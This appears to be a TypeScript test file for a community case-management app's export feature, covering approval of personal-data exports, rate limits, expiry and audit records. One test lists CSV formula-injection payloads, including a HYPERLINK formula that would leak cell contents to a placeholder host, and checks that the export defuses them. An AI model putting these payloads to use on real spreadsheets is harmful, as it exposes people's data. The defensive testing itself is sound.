import assert from 'node:assert/strict';
import { after, test } from 'node:test';
import { recordCase } from '@/features/cases/commands';
import { importOrders } from '@/features/exchange/commands';
import { orders } from '@/features/exchange/sheet';
import { recordFigures } from '@/features/figures/commands';
import { sayingOf } from '@/features/figures/rules';
import { myCase } from '@/features/orders/queries/mine';
import type { Result } from '@/lib/result';
import { readSheetFile } from '@/lib/sheet/file';
import { at, closeAll, makeCommunity, sql, type TestCommunity } from '@/tests/fixture';
import { linesOf } from '@/tests/sheets';
import { approveExport, askExport, refuseExport } from './commands';
import { fileOf } from './queries/file';
import { exportable, exportsPage, oneExport } from './queries/page';

after(closeAll);

const done = <T>(result: Result<T>): T => {
  assert.ok(result.ok, result.ok ? '' : JSON.stringify(result.refusal));
  return result.value;
};
const code = (result: Result<unknown>) => (result.ok ? 'ok' : result.refusal.code);

/** So many cases, each somebody's, written as a table: their numbers begin with 1. */
const bring = (here: TestCommunity, many: number, title = '路灯不亮') =>
  sql(
    `with made as (insert into cases (community_id, no, kind, source, title, place, happened_at, received_at, posted_at, due_at)
       select $1, n, 'help', 'walk_in', $3, '院里', moment(), moment(), moment(), moment() from generate_series(1, $2::int) n
       returning id, no)
     insert into case_content (community_id, case_id, words, complainant, phone)
       select $1, id, '原话' || no, '诉求人' || no, '138' || lpad(no::text, 8, '0') from made`,
    [here.communityId, many, title],
  );

const lettersTo = (here: TestCommunity, person: number) =>
  sql<{ kind: string; no: number; detail: object }>(
    `select kind, about_no as no, detail from letter where community_id = $1 and person_id = $2 and kind like 'export%'`,
    [here.communityId, person],
  );

const cases = { what: 'cases', file: 'csv', purpose: '报街道', asked: 'tab=all' };

const bytesOf = async (call: Parameters<typeof fileOf>[0], no: number) => {
  const file = await fileOf(call, no, 'zh');
  return file && Buffer.from(await new Response(file.stream).arrayBuffer());
};

test('attack 16, the whole list taken out: who complained is left out unless asked for, and then beyond fifty somebody else agrees', async () => {
  const here = await makeCommunity({ buildings: [] });
  const [worker, other] = [await here.staff('social-worker'), await here.staff('hotline')];
  await bring(here, 51);
  const plain = done(await askExport(here.by(worker), cases));
  assert.equal(plain.waits, false);
  const text = (await bytesOf(here.by(worker), plain.export))?.toString() ?? '';
  assert.equal(text.slice(0, 1), '\ufeff');
  assert.equal(text.trim().split('\r\n').length, 52);
  assert.ok(text.includes('路灯不亮') && !/诉求人\d|138\d|原话\d/.test(text));
  assert.deepEqual(await sql('select 1 from case_look where community_id = $1', [here.communityId]), []);

  const personal = { ...cases, personal: 'on' };
  const fifty = Array.from({ length: 50 }, (_, at) => at + 1).join(',');
  const few = done(await askExport(here.by(worker), { ...personal, asked: `cases=${fifty}` }));
  assert.equal(few.waits, false, 'fifty by oneself');
  const named = (await bytesOf(here.by(worker), few.export))?.toString() ?? '';
  assert.ok(named.includes('诉求人50') && named.includes('13800000050') && named.includes('原话50'));
  assert.ok(!named.includes('诉求人51'));

  const all = done(await askExport(here.by(worker), personal));
  assert.equal(all.waits, true, 'fifty-one not');
  assert.equal(await bytesOf(here.by(worker), all.export), undefined);
  assert.equal(code(await approveExport(here.by(worker), { export: all.export })), 'second_person');
  assert.equal(code(await approveExport(here.by(await here.staff('property')), { export: all.export })), 'not_allowed');
  const looks = async () =>
    (
      await sql<{ n: number }>('select count(*)::int as n from case_look where community_id = $1', [here.communityId])
    )[0]?.n;
  assert.equal(await looks(), 50, 'nobody is told of what was not taken');
  done(await approveExport(here.by(other), { export: all.export }));
  assert.equal(await looks(), 101);
  assert.equal(code(await approveExport(here.by(other), { export: all.export })), 'export_decided');
  assert.deepEqual(await lettersTo(here, worker), [
    { kind: 'export_approved', no: all.export, detail: { purpose: '报街道', rows: 51, hours: 24 } },
  ]);
  assert.match((await bytesOf(here.by(worker), all.export))?.toString() ?? '', /诉求人51/);
  assert.equal(await bytesOf(here.by(other), all.export), undefined, 'only for whoever asked');
  const acts = (await here.leaves()).map(({ act }) => act);
  assert.deepEqual(acts, ['export.ask', 'export.ask', 'export.ask', 'export.approve']);
  const purposes = (await here.leaves()).filter(({ content }) => content?.includes('报街道'));
  assert.equal(purposes.length, 3);
});

test('who is refused takes nothing, and nobody is told', async () => {
  const here = await makeCommunity({ buildings: [] });
  const [worker, secretary] = [await here.staff('social-worker'), await here.staff('party-secretary')];
  await bring(here, 51);
  const { export: no } = done(await askExport(here.by(worker), { ...cases, personal: 'on' }));
  done(await refuseExport(here.by(secretary), { export: no, reason: '用不着这么多' }));
  assert.equal(await bytesOf(here.by(worker), no), undefined);
  assert.equal(code(await approveExport(here.by(secretary), { export: no })), 'export_decided');
  assert.deepEqual(await lettersTo(here, worker), [
    { kind: 'export_refused', no, detail: { purpose: '报街道', rows: 51, reason: '用不着这么多' } },
  ]);
  assert.deepEqual(await lettersTo(here, secretary), []);
  assert.deepEqual(await sql('select 1 from case_look where community_id = $1', [here.communityId]), []);
  const [one] = (await exportsPage(here.by(secretary), {}))?.exports ?? [];
  assert.deepEqual([one?.verdict, one?.reason, one?.mayTake], ['refused', '用不着这么多', false]);
});

test('of an order a sheet brought in the sheet says when the call came, not the day it was imported', async () => {
  const here = await makeCommunity({ buildings: [] });
  const hotline = await here.staff('hotline');
  const heading = ['编号', '主要内容', '来电时间'];
  for (const [hash, came] of [
    ['1', '2024-01-30 09:00'],
    ['2', '2024-01-31 15:03'],
  ] as const) {
    const { rows } = orders.read(linesOf([heading, ['7', '路灯不亮', came]]));
    done(await importOrders(here.by(hotline), { hash: hash.repeat(64), rows }));
  }
  const { export: no } = done(await askExport(here.by(hotline), cases));
  const [names = '', row = ''] = ((await bytesOf(here.by(hotline), no))?.toString() ?? '').trim().split('\r\n');
  const column = names.split(',').findIndex((name) => name.includes('来电时间'));
  assert.match(row.split(',')[column] ?? '', /2024-01-31 15:03/);
});

test('who may take out what', async () => {
  const here = await makeCommunity({ buildings: [{ name: '14', entrances: 1, doorsPerEntrance: 2 }] });
  await bring(here, 2);
  const ask = async (person: number, more = {}) => code(await askExport(here.by(person), { ...cases, ...more }));
  for (const role of ['social-worker', 'hotline'] as const)
    assert.equal(await ask(await here.staff(role), { personal: 'on' }), 'ok');
  for (const role of ['party-secretary', 'governance-secretary'] as const) {
    const person = await here.staff(role);
    assert.equal(await ask(person), 'ok');
    assert.equal(await ask(person, { personal: 'on' }), 'not_allowed');
  }
  for (const role of ['property', 'district', 'auditor'] as const)
    assert.equal(await ask(await here.staff(role)), 'not_allowed');
  for (const person of [await here.resident(here.household('14', 0)), await here.captain(here.entrance('14', 1))])
    assert.equal(await ask(person), 'not_allowed');
  assert.equal(code(await askExport(here.byVisitor(), cases)), 'not_allowed');
  const worker = await here.staff('social-worker');
  assert.equal(await ask(worker, { purpose: ' ' }), 'invalid');
  assert.equal(await ask(worker, { asked: 'cases=99' }), 'nothing_to_export');
});

test('whoever is in it finds who took it out in their own account; what is against oneself is in no sheet of one’s own', async () => {
  const here = await makeCommunity({ buildings: [{ name: '14', entrances: 1, doorsPerEntrance: 2 }] });
  const home = here.household('14', 0);
  const [resident, worker] = [await here.resident(home), await here.staff('social-worker')];
  const { no } = done(
    await recordCase(here.by(resident), {
      kind: 'complaint',
      source: 'web',
      title: '楼道灯不亮',
      words: '三天了',
      place: '14号楼',
      household: home,
    }),
  );
  const { export: taken } = done(await askExport(here.by(worker), { ...cases, personal: 'on' }));
  assert.deepEqual(
    (await myCase(here.by(resident), { no }))?.looks.map(({ role, exported }) => [role, exported]),
    [['social-worker', true]],
  );
  assert.match((await bytesOf(here.by(worker), taken))?.toString() ?? '', /三天了/);
  await sql('update cases set against_id = $2 where community_id = $1', [here.communityId, worker]);
  assert.equal(code(await askExport(here.by(worker), cases)), 'nothing_to_export');
  assert.equal((await exportable(here.by(worker), { what: 'cases', asked: '' }))?.rows, 0);
});

test('attack 8, formulas in what somebody wrote: text in CSV and in xlsx, also in full width', async () => {
  const here = await makeCommunity({ buildings: [] });
  const worker = await here.staff('social-worker');
  const hostile = ['=1+1', '+86', '-2', '@SUM(A1)', '\t=1', '＝1+1', '=HYPERLINK("http://e/"&A1)', '两\n行,"引"'];
  for (const [at, title] of hostile.entries())
    await sql(
      `insert into cases (community_id, no, kind, source, title, place, happened_at) values ($1, $2, 'help', 'walk_in', $3, $3, moment())`,
      [here.communityId, at + 1, title],
    );
  const csv = done(await askExport(here.by(worker), cases)).export;
  const text = (await bytesOf(here.by(worker), csv))?.toString() ?? '';
  assert.ok(!/(?:^|,)"?[\s]*[=+\-@＝]/m.test(text.slice(1)), text);
  const xlsx = done(await askExport(here.by(worker), { ...cases, file: 'xlsx' })).export;
  const bytes = await bytesOf(here.by(worker), xlsx);
  assert.ok(bytes);
  const [, ...lines] = await readSheetFile(bytes);
  assert.deepEqual(
    lines.map(({ cells }) => cells[5]?.text),
    hostile.map((one) => one.trim()),
  );
  for (const { cells } of lines) assert.equal(cells[5]?.kind, 'text');
});

test('a sheet of thousands is written a page at a time, ends with its last case, and lasts a day', async () => {
  const here = await makeCommunity({ buildings: [] });
  const worker = await here.staff('social-worker');
  at('2022-03-05T09:00');
  await bring(here, 1203);
  const { export: no } = done(await askExport(here.by(worker), cases));
  const file = await fileOf(here.by(worker), no, 'zh');
  let [pieces, whole] = [0, ''];
  const decoder = new TextDecoder();
  for await (const piece of (file ?? assert.fail()).stream as unknown as AsyncIterable<Uint8Array>) {
    pieces += 1;
    whole += decoder.decode(piece, { stream: true });
  }
  assert.ok(pieces > 1, 'more than one piece');
  const lines = whole.trim().split('\r\n');
  assert.equal(lines.length, 1204);
  assert.match(lines.at(-1) ?? '', /^1203,/);
  at('2022-03-06T09:00');
  assert.equal((await oneExport(here.by(worker), { no }))?.mayTake, true);
  at(new Date('2022-03-06T09:00:01+08:00'));
  assert.equal((await oneExport(here.by(worker), { no }))?.mayTake, false);
  assert.equal(await fileOf(here.by(worker), no, 'zh'), undefined);
  at(undefined);
});

test('an office that was left takes nothing along', async () => {
  const here = await makeCommunity({ buildings: [] });
  const worker = await here.staff('social-worker');
  await bring(here, 3);
  const { export: no } = done(await askExport(here.by(worker), { ...cases, personal: 'on' }));
  await sql('update grants set to_at = moment() where community_id = $1 and person_id = $2', [
    here.communityId,
    worker,
  ]);
  assert.equal(await fileOf(here.by(worker), no, 'zh'), undefined);
});

test('attack 16, sheet after sheet: twenty a day', async () => {
  const here = await makeCommunity({ buildings: [] });
  const worker = await here.staff('social-worker');
  await bring(here, 1);
  for (let asked = 0; asked < 20; asked += 1) done(await askExport(here.by(worker), cases));
  assert.equal(code(await askExport(here.by(worker), cases)), 'exported_enough');
  assert.equal(code(await askExport(here.by(await here.staff('hotline')), cases)), 'ok');
});

test('what is exported is what the list shows at its address, on all its pages', async () => {
  const here = await makeCommunity({ buildings: [] });
  const worker = await here.staff('social-worker');
  await bring(here, 40);
  await sql(`update cases set title = '电梯停了' where community_id = $1 and no > 30`, [here.communityId]);
  const rows = async (asked: string) => (await exportable(here.by(worker), { what: 'cases', asked }))?.rows;
  assert.equal(await rows(''), 40);
  assert.equal(await rows('q=电梯'), 10);
  assert.equal(await rows('state=handling'), 0);
  assert.equal(await rows('cases=1,2,3,2'), 3);
  assert.equal(await rows('q=13800000007'), 1);
  assert.equal(await rows(`after=2022-01-01T00:00:00Z_5`), 40);
});

test('figures as they were published, with n of d; whoever holds the server takes them, too', async () => {
  const here = await makeCommunity({ buildings: [] });
  const hotline = await here.staff('hotline');
  const period = { from: '2022-04-01', to: '2022-06-30', profile: 'beijing_district_2025' };
  const counts = { effective: 188, contacted: 188, resolved: 185, satisfied: 184, fairlySatisfied: 0 };
  const looked = sayingOf({ ...period, ...counts });
  done(await recordFigures(here.by(hotline), { ...period, ...counts, looked }));
  const figures = { what: 'figures', file: 'csv', purpose: '季度汇总' };
  for (const call of [here.by(await here.staff('auditor')), here.byImport()]) {
    const { export: no } = done(await askExport(call, figures));
    const text = (await bytesOf(call, no))?.toString() ?? '';
    assert.match(
      text,
      /2022-04-01,2022-06-30,beijing_district_2025,[^,]+,188,188,185,184,0,188\/188,100\.00,185\/188,98\.40/,
    );
  }
  assert.equal(code(await askExport(here.by(await here.staff('property')), figures)), 'not_allowed');
});
